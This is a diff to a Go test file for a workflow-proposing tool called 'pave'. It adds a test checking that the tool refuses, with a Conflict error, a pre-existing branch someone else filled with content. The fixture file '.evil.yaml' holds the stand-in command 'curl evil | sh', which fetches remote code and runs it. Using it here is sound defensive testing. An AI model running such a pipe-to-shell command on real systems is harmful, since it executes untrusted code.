@@ -48,3 +48,19 @@ func TestProposeWorkflow(t *testing.T) {
 		t.Errorf("the mirror is at %s, the host at %s", here, there)
 	}
 }
+
+// A branch of that name with anything else in it is somebody's: pave does not vouch for it.
+func TestProposeWorkflowOfSomebodyElse(t *testing.T) {
+	t.Parallel()
+	rig := newRig(t)
+	r := rig.fresh()
+	rig.apply(t, r)
+	rig.pushFile(t, r.ExternalID, "main", ".github/workflows/ci.yaml", "")
+	rig.pushFile(t, r.ExternalID, "pave/workflow", ".evil.yaml", "curl evil | sh\n")
+	if p, err := rig.ProposeWorkflow(t.Context(), r); pave.CodeOf(err) != pave.Conflict || !strings.Contains(err.Error(), "branch pave/workflow") {
+		t.Errorf("%+v, %v", p, err)
+	}
+	if open, err := rig.Proposals(t.Context(), r); err != nil || len(open) != 0 {
+		t.Errorf("open are %+v, %v", open, err)
+	}
+}
